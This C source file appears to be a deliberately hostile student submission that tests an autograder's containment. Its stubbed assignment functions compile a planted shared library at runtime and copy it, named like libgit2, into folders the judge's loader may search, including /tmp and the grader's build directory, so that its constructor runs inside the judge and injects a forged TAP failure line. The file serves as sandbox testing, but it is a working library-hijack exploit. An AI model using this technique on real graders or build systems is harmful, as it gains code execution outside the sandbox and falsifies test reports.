/* Hostile submission for lab 01: plants a libgit2 (the library the kit stands in for) wherever the checks binary might look for it, to run its code in the judge. Criterion
 * starts the checks binary again for every test: a library it loaded from a folder student code
 * can write would run in the judge. Self-limiting: if containment failed, this costs seconds,
 * not the machine. */
#define _GNU_SOURCE
#include "family.h"

#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* The planted library: in any process not of the student's uid, it says so
 * in a forged TAP failure (the message would reach the report) and on both
 * outputs; it also stands in for what the checks binary needs of libgit2. */
static const char planted[] =
    "#include <stdio.h>\n#include <unistd.h>\n#include <stddef.h>\n"
    "__attribute__((constructor)) static void run(void) {\n"
    "  if (getuid() == STUDENT) return;\n"
    "  const char *m = \"planted library ran in the judge\";\n"
    "  printf(\"not ok - family::who_am_i_matches_getpid\\n  ---\\n  assertions: 1\\n  status: failed\\n"
    "  errors:\\n    - family.c:1: |+\\n      %s\\n  ...\\n\", m);\n"
    "  fprintf(stderr, \"%s\\n\", m); fflush(NULL);\n}\n"
    "int git_libgit2_init(void) { return 1; }\nint git_libgit2_shutdown(void) { return 0; }\n"
    "int git_diff_buffers(void) { return 0; }\n";

/* The names to plant: the libgit2 this process mapped (the checks binary's
 * own), as the kit's stand-in is named after it. A stand-in for the C
 * library or Criterion would only crash the judge, which fails the lab. */
static char names[8][NAME_MAX + 1];
static int nnames;

/* name and its shorter forms (libgit2.so.1.5.1: .so.1.5, .so.1, .so): the
 * file mapped is the library's file, the loader looks for its soname. */
static void add_names(const char *name)
{
    char n[NAME_MAX + 1];
    snprintf(n, sizeof n, "%s", name);
    for (char *dot; nnames < 8 && strstr(n, ".so");) {
        int seen = 0;
        for (int i = 0; i < nnames; i++)
            seen |= !strcmp(names[i], n);
        if (!seen)
            snprintf(names[nnames++], sizeof names[0], "%s", n);
        dot = strrchr(n, '.');
        if (!dot || !strcmp(dot, ".so"))
            break;
        *dot = '\0';
    }
}

static void find_names(void)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[PATH_MAX + 128];
    while (maps && fgets(line, sizeof line, maps)) {
        char *name = strrchr(line, '/');
        if (!name || strncmp(name + 1, "libgit2.", 8))
            continue;
        name[strcspn(name, "\n")] = '\0';
        add_names(name + 1);
    }
    if (maps)
        fclose(maps);
    if (!nnames)
        add_names("libgit2.so.1.5");
}

static void copy(const char *from, const char *dir)
{
    for (int i = 0; i < nnames; i++) {
        char to[PATH_MAX];
        snprintf(to, sizeof to, "%s/%s", dir, names[i]);
        int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        char buf[65536];
        ssize_t k;
        while (in >= 0 && out >= 0 && (k = read(in, buf, sizeof buf)) > 0)
            if (write(out, buf, (size_t)k) != k)
                break;
        if (in >= 0)
            close(in);
        if (out >= 0)
            close(out);
    }
}

static void misbehave(void)
{
    static int done;
    if (done++)
        return;
    char src[] = "/tmp/plant-XXXXXX.c", lib[PATH_MAX], cmd[2 * PATH_MAX];
    int fd = mkstemps(src, 2);
    if (fd < 0)
        return;
    if (write(fd, planted, sizeof planted - 1) < 0) {
        close(fd);
        return;
    }
    close(fd);
    snprintf(lib, sizeof lib, "%.*s.so", (int)strlen(src) - 2, src);
    snprintf(cmd, sizeof cmd, "timeout 20 gcc -shared -fPIC -DSTUDENT=%u -o %s %s >/dev/null 2>&1",
             (unsigned)getuid(), lib, src);
    if (system(cmd) != 0)
        return;
    find_names();
    /* Every folder a loader might be pointed at: the run's folders, /tmp,
     * where the kit keeps its own libgit2, the folder of the judge's binary. */
    char exe[PATH_MAX] = "", up[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    exe[n > 0 ? n : 0] = '\0';
    const char *lib_dir = getenv("CHECKLIB");
    char kit_nogit[PATH_MAX] = "";
    if (lib_dir)
        snprintf(kit_nogit, sizeof kit_nogit, "%s/../../build/nogit", lib_dir);
    snprintf(up, sizeof up, "%s", exe);
    const char *dirs[] = {".", "..", "/tmp", "/proclabs/judge/grader/build/nogit", kit_nogit,
                          exe[0] ? dirname(up) : ".", NULL};
    for (const char **d = dirs; *d; d++)
        if (**d)
            copy(lib, *d);
}

struct who who_am_i(void)
{
    misbehave();
    struct who w = {0, 0};
    return w;
}

pid_t start_child(child_job job, int arg)
{
    (void)job;
    (void)arg;
    misbehave();
    return -1;
}

int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    (void)n;
    (void)job;
    (void)pids;
    (void)codes;
    misbehave();
    return 0;
}
